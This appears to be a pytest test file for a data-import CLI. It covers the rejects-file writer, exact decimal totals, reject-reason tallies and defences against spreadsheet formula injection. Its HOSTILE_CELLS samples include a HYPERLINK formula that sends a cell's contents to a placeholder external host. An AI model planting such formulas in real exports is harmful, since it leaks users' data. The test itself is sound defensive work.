"""The rejects writer and control totals (SPEC 5, 7, 9)."""

from __future__ import annotations

import csv
import io
import os
import stat
import threading
from decimal import Decimal
from pathlib import Path

import orjson
import pyarrow as pa
import pytest
from conftest import cli

from t360cli.readers import SourceOptions, read_chunks
from t360cli.readers.csvsrc import _unquoted_column, spreadsheet_safe
from t360cli.report import RejectsWriter, Report
from t360cli.tally import Counts, ReasonCount, ReasonTally, Totals, reason_rules


def test_rejects_sorted_by_file_then_line_even_when_refusals_come_late(tmp_path: Path) -> None:
    w = RejectsWriter(tmp_path / "r.csv", ["A"], files=["b.csv", "a.csv"])
    w.write("b.csv", 5, "x: bad", {"A": "1"})
    w.write("a.csv", 3, "x: bad", {"A": "2"})
    w.write("b.csv", 2, "server refused (HTTP 400): no", {"A": "3"})  # arrives after delivery
    w.close()
    assert (tmp_path / "r.csv").read_bytes() == (
        b"source_file,source_line,reason,A\r\n"
        b"b.csv,2,server refused (HTTP 400): no,3\r\n"
        b"b.csv,5,x: bad,1\r\n"
        b"a.csv,3,x: bad,2\r\n"
    )


def test_rejects_columns_grow_for_late_keys(tmp_path: Path) -> None:
    w = RejectsWriter(tmp_path / "r.csv", ["A"])
    w.write("f.jsonl", 1, "r", {"A": "1"})
    w.write("f.jsonl", 2, "r", {"A": "2", "B": "x"})
    w.close()
    assert (tmp_path / "r.csv").read_text().splitlines() == [
        "source_file,source_line,reason,A,B",
        "f.jsonl,1,r,1,",
        "f.jsonl,2,r,2,x",
    ]


def test_no_file_without_rejects(tmp_path: Path) -> None:
    assert RejectsWriter(tmp_path / "r.csv", ["A"]).close() is None
    assert not (tmp_path / "r.csv").exists()


def test_totals_exact_and_scale_independent_of_chunks() -> None:
    t = Totals(["Value"])
    t.add_columns(
        {
            "eventname": pa.array(["Deposit", "Deposit"]),
            "Currency": pa.array(["USD", None]),
            "Value": pa.array(["0.1", "5"]),
        }
    )
    t.add_columns({"eventname": pa.array(["Deposit"]), "Currency": pa.array(["USD"]), "Value": pa.array(["0.20"])})
    t.add_record({"eventname": "Deposit", "Currency": "USD", "Value": "0.1"}, -1)
    assert t.as_json() == {"Deposit": {"USD": {"Value": "0.20"}, "": {"Value": "5.00"}}}
    assert t.sums["Deposit"]["USD"]["Value"] == Decimal("0.2")


# -- SPEC 10: reject reasons grouped by field and rule, the cell's value left out ---------------------


@pytest.mark.parametrize(
    "reason, rules",
    [
        ("Value: 'abc' is not a number", ["Value: not a number"]),
        (
            "createtime: '03/04/2025' is not an ISO 8601 date or time; set format: in the mapping",
            ["createtime: not an ISO 8601 date or time; set format:"],
        ),
        ("tracking_data: 57 characters, at most 50", ["tracking_data: more than 50 characters"]),
        (
            "Value: 'a; b: c' is not a number; tracking_data: 9 characters, at most 5; customerId: required, but empty",
            ["Value: not a number", "tracking_data: more than 5 characters", "customerId: required, but empty"],
        ),
        ("method: 'O'Brien' is not in the map", ["method: not in the map"]),
        ("createtime: '1.2' does not match format %d.%m.%Y", ["createtime: does not match format %d.%m.%Y"]),
        (
            "eventid: 'T1' was already sent with different values (conflict)",
            ["eventid: was already sent with different values (conflict)"],
        ),
        ("4 cells, the header has 3", ["wrong number of cells (the header has 3)"]),
        ("not valid JSON: unexpected character at column 7", ["not valid JSON: unexpected character"]),
    ],
)
def test_reason_rules(reason: str, rules: list[str]) -> None:
    assert reason_rules(reason) == rules


def test_tally_counts_rows_per_rule_with_the_first_file_and_line() -> None:
    tally = ReasonTally()
    tally.add("Value: 'x' is not a number", "b.csv", 3, file_index=1)
    tally.add("Value: 'y' is not a number", "a.csv", 9, file_index=0)
    tally.add("eventid: 'T' was already sent with different values (conflict)", "a.csv", 2, file_index=0)
    tally.add("Value: 'z' is not a number", "a.csv", 4, file_index=0)  # an earlier line, seen later
    assert tally.top() == [
        ReasonCount("Value: not a number", 3, "a.csv", 4),
        ReasonCount("eventid: was already sent with different values (conflict)", 1, "a.csv", 2),
    ]
    assert tally.top()[0].text() == "3 x Value: not a number (first: a.csv line 4)"


def test_tally_keeps_five_and_bounds_its_groups() -> None:
    tally = ReasonTally()
    for n in range(ReasonTally.MAX_GROUPS + 50):
        for _ in range(1 + (n < 7) * (10 - n)):  # rules 0..6 are the frequent ones, 0 the most
            tally.add(f"note_{n}: required, but empty", "f.csv", n + 2)
    assert len(tally.groups) == ReasonTally.MAX_GROUPS and tally.other == 50
    assert [(r.reason, r.count) for r in tally.top()] == [(f"note_{n}: required, but empty", 11 - n) for n in range(5)]


def test_report_json_keeps_every_count_and_adds_the_why() -> None:
    counts = Counts(rows_read=2, rows_rejected=2, failed_causes={"HTTP 503": 2})
    counts.reject_reasons.add("Value: 'x' is not a number", "d.csv", 2)
    report = Report("activities", True, ["d.csv"], counts, None, "r.csv", 0.5, 1, None)
    data = report.to_json()
    assert data["top_reject_reasons"] == [
        {"reason": "Value: not a number", "count": 1, "first_file": "d.csv", "first_line": 2}
    ]
    assert data["failed_causes"] == {"HTTP 503": 2} and "reject_reasons" not in data
    assert (data["rows_read"], data["rows_rejected"], data["exit_code"]) == (2, 2, 1)


# -- SPEC 11: user-named paths are written through links and FIFOs, never replaced ------------------


def test_rejects_file_is_private_and_replaces_a_regular_file(tmp_path: Path) -> None:
    (tmp_path / "r.csv").write_text("old\n", encoding="utf-8")
    w = RejectsWriter(tmp_path / "r.csv", ["A"])
    w.write("f.csv", 2, "x", {"A": "1"})
    assert w.close() == tmp_path / "r.csv"
    assert (tmp_path / "r.csv").read_text(encoding="utf-8") == "source_file,source_line,reason,A\nf.csv,2,x,1\n"
    assert stat.S_IMODE((tmp_path / "r.csv").stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.csv"]  # no temporary file left


def test_rejects_and_report_through_a_symlink_keep_the_link(tmp_path: Path) -> None:
    (tmp_path / "rej.csv").symlink_to(tmp_path / "target.csv")  # dangling: its target is created
    w = RejectsWriter(tmp_path / "rej.csv", ["A"])
    w.write("f.csv", 5, "x", {"A": "1"})
    w.write("f.csv", 2, "y", {"A": "2", "B": "3"})  # unsorted and grown: rewritten before it is put in place
    w.close()
    assert (tmp_path / "rej.csv").is_symlink()
    assert (tmp_path / "target.csv").read_text(encoding="utf-8").splitlines() == [
        "source_file,source_line,reason,A,B",
        "f.csv,2,y,2,3",
        "f.csv,5,x,1,",
    ]
    (tmp_path / "r.json").symlink_to(tmp_path / "report.json")
    Report("customers", True, [], Counts(), None, None, 0.0, 0, None).write(tmp_path / "r.json")
    assert (tmp_path / "r.json").is_symlink()
    assert orjson.loads((tmp_path / "report.json").read_bytes())["kind"] == "customers"


def test_rejects_into_a_fifo(tmp_path: Path) -> None:
    fifo = tmp_path / "rejects.fifo"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    w = RejectsWriter(fifo, ["A"])
    w.write("f.csv", 2, "x", {"A": "1"})
    w.close()
    reader.join(timeout=30)
    assert not reader.is_alive()
    assert got == [b"source_file,source_line,reason,A\r\nf.csv,2,x,1\r\n"]
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_totals_of_38_digit_values_are_exact() -> None:
    """SPEC 11: control totals are exact and never overflow (decimal128 would wrap)."""
    import pyarrow as pa

    nines = "9" * 38
    totals = Totals(["Value"])
    values = {
        "eventname": pa.array(["Deposit"] * 3),
        "Currency": pa.array(["USD"] * 3),
        "Value": pa.array([nines, nines, "0.5"]),
    }
    totals.add_columns(values)
    assert totals.as_json() == {"Deposit": {"USD": {"Value": str(2 * int(nines)) + ".5"}}}
    small = Totals(["Value"])
    small.add_columns({**values, "Value": pa.array(["0.10", "0.2", "1"])})
    assert small.as_json() == {"Deposit": {"USD": {"Value": "1.30"}}}


def test_aggregate_sums_of_38_digit_values_are_exact(tmp_path) -> None:
    from helpers import run_pipeline

    nines = "9" * 38
    out = run_pipeline(
        tmp_path,
        {"t.csv": f"Login,Day,Lots\n1,2025-07-01,{nines}\n1,2025-07-01,{nines}\n1,2025-07-01,0.25\n"},
        "kind: activities\nfields:\n  customerid: Login\n  eventname: {value: DailyStats}\n"
        "  createtime: {column: Day, type: date}\n  Lots: {column: Lots, type: decimal}\n"
        "aggregate:\n  by: [customerid, createtime]\n  sum: [Lots]\n",
    )
    assert out.records[0]["Lots"] == str(2 * int(nines)) + ".25"


# -- SPEC 11: spreadsheet-safe rejects cells, and a rejects file fed back in ------------------------

HOSTILE_CELLS = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1 (555) 010", "-12.5", "@SUM(A1:A9)", "\tx"]


@pytest.mark.parametrize(
    "cell, written",
    [
        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
        ("+1 (555)", "'+1 (555)"),
        ("-12.5", "-12.5"),  # a plain number: unchanged
        ("+1,000.50", "+1,000.50"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-", "'-"),
        ("'=x", "''=x"),  # a quote the data already had survives the round trip
        ("'abc", "'abc"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_spreadsheet_safe_cells_and_back(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written
    back = pa.chunked_array([[written]])
    assert _unquoted_column(back).to_pylist() == [cell]


def test_rejects_writer_escapes_every_cell_header_and_fixed_columns(tmp_path: Path) -> None:
    w = RejectsWriter(tmp_path / "r.csv", ["note", "=cmd"])
    w.write("=evil.csv", 2, "-reason", {"note": "=1+2", "=cmd": "-3"})
    w.write("=evil.csv", 1, "r", {"note": "@x", "=cmd": None, "late": "+y"})  # unsorted and grown: rewritten
    w.close()
    rows = list(csv.reader(io.StringIO((tmp_path / "r.csv").read_text(encoding="utf-8"), newline="")))
    assert rows == [
        ["source_file", "source_line", "reason", "note", "'=cmd", "late"],
        ["'=evil.csv", "1", "r", "'@x", "", "'+y"],
        ["'=evil.csv", "2", "'-reason", "'=1+2", "-3", ""],
    ]


def _feed_back_mapping(tmp_path: Path) -> Path:
    text = "kind: customers\nfields:\n  customerId: cid\n  firstName: note\n"
    (tmp_path / "m.yaml").write_text(text, encoding="utf-8")
    return tmp_path / "m.yaml"


@pytest.mark.parametrize("ragged", [False, True], ids=["fast-path", "exact-path"])
def test_a_rejects_file_fed_back_reads_the_original_values(tmp_path: Path, ragged: bool) -> None:
    """validate -> rejects.csv (escaped) -> validate rejects.csv: the cells read are the originals,
    so the second rejects file holds them escaped once, exactly as the first one."""
    rows = [["", cell, f"k{i}"] for i, cell in enumerate(HOSTILE_CELLS)]
    buf = io.StringIO()
    csv.writer(buf).writerows([["cid", "note", "@tag"], *rows])
    (tmp_path / "in.csv").write_text(buf.getvalue(), encoding="utf-8")
    m = _feed_back_mapping(tmp_path)
    first = cli("validate", "in.csv", "-m", str(m), "--rejects", "r1.csv", cwd=tmp_path)
    assert first.returncode == 1, first.stderr
    r1 = list(csv.reader(io.StringIO((tmp_path / "r1.csv").read_text(encoding="utf-8"), newline="")))
    assert r1[0] == ["source_file", "source_line", "reason", "cid", "note", "'@tag"]
    notes = [row[4] for row in r1[1:] if row[2] == "customerId: required, but empty"]
    assert notes == [spreadsheet_safe(cell) for cell in HOSTILE_CELLS]
    assert notes[2] == "-12.5" and all(n.startswith("'") for i, n in enumerate(notes) if i != 2)
    if ragged:  # a short row sends the reader to its exact path (the csv module)
        with open(tmp_path / "r1.csv", "a", encoding="utf-8", newline="") as f:
            f.write("'=short,row\r\n")

    chunks = list(read_chunks([tmp_path / "r1.csv"], SourceOptions()))
    assert chunks[0].columns == ["source_file", "source_line", "reason", "cid", "note", "@tag"]
    read = [r for c in chunks for r in c.table.to_pylist()]
    assert [r["note"] for r in read if r["reason"] == "customerId: required, but empty"] == HOSTILE_CELLS
    bad = [b.cells for c in chunks for b in c.bad]
    assert bad == ([{"source_file": "=short", "source_line": "row"}] if ragged else [])

    second = cli("validate", "r1.csv", "-m", str(m), "--rejects", "r2.csv", cwd=tmp_path)
    assert second.returncode == 1, second.stderr
    r2 = list(csv.reader(io.StringIO((tmp_path / "r2.csv").read_text(encoding="utf-8"), newline="")))
    assert r2[0][:3] == ["source_file", "source_line", "reason"] and r2[0][-2:] == ["note", "'@tag"]
    assert [row[-2:] for row in r2[1:] if row[2] == "customerId: required, but empty"] == [
        row[-2:] for row in r1[1:] if row[2] == "customerId: required, but empty"
    ]


def test_an_agreed_values_reason_is_one_rule() -> None:
    """The agreed values are in parentheses: "; agreed:" would read as a second field's rule."""
    from t360cli.tally import reason_rules

    assert reason_rules("eventname: 'Bonus' is not an agreed KPI (agreed: Deposit, Withdrawal)") == [
        "eventname: not an agreed KPI (agreed: Deposit, Withdrawal)"
    ]


def test_oversized_numbers_group_under_one_rule() -> None:
    from t360cli.tally import reason_rules

    assert reason_rules("Value: '7777777777777777777777777777777777777777777' has more than 38 significant digits") == [
        "Value: has more than 38 significant digits"
    ]
